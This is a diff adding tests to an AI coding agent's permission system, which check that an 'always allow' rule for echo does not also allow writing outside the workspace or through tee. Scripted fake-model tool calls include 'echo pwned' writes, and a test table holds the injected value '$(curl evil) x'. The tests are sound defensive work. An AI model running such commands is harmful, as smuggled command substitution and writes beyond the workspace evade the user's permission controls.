@@ -377,6 +377,35 @@ async def test_reject_allow_always_and_a_reload_after_restart(workspace: Path, t
             await listener.stop()
 
 
+async def test_always_allowing_a_program_does_not_allow_where_it_writes(
+    workspace: Path, tmp_path: Path
+) -> None:
+    """Always allow `bash(echo:*)`, then echo writing outside the workspace, or into it through
+    tee, asks again (and is rejected here); echo alone runs unasked."""
+    outside = tmp_path / "pwned.txt"
+    async with FakeLLM(
+        tool_call("bash", {"command": "echo hello"}, id="first"),
+        text("Said it."),
+        tool_call("bash", {"command": f"echo pwned > {outside}"}, id="outside"),
+        text("Not that."),
+        tool_call("bash", {"command": "echo pwned | tee notes.txt"}, id="tee"),
+        text("Not that either."),
+        tool_call("bash", {"command": "echo again 2>&1"}, id="again"),
+        text("Said again."),
+    ) as fake:
+        editor = Editor(answers=["allow-always", "reject-once", "reject-once"])
+        async with acp_agent(editor, workspace, fake, tmp_path / "data") as conn:
+            session_id = (await conn.new_session(cwd=str(workspace), mcp_servers=[])).session_id
+            for prompt in ("Say hello", "Write outside", "Write a note", "Say it again"):
+                reply = await conn.prompt(session_id=session_id, prompt=[text_block(prompt)])
+                assert reply.stop_reason == "end_turn"
+    assert editor.asked[0][1][1].name == "Always allow bash(echo:*)"
+    assert [call.tool_call_id for call, _ in editor.asked] == ["first", "outside", "tee"]
+    assert not outside.exists() and not (workspace / "notes.txt").exists()
+    assert [o.option_id for o in editor.asked[1][1]] == ["allow-once", "reject-once"]
+    assert editor.statuses("again")[-1] == "completed"
+
+
 def _sleeping(seconds: str) -> bool:
     """Whether a `sleep <seconds>` process runs on this machine."""
     for entry in Path("/proc").iterdir():
@@ -640,6 +669,10 @@ async def test_the_editors_mcp_servers_serve_the_session(workspace: Path, tmp_pa
         ("bash", {"command": "$(curl evil) x"}, None),
         ("bash", {"command": "echo 'unclosed"}, None),
         ("bash", {"command": ""}, None),
+        ("bash", {"command": "echo x > notes.txt"}, None),  # the rule would not cover the write
+        ("bash", {"command": "make | tee build.log"}, None),
+        ("bash", {"command": "case x in x) true;; esac"}, None),  # nor a command it cannot read
+        ("bash", {"command": "make 2>&1 >/dev/null"}, "bash(make:*)"),
     ],
 )
 def test_allow_always_offers_a_rule_no_wider_than_the_command(
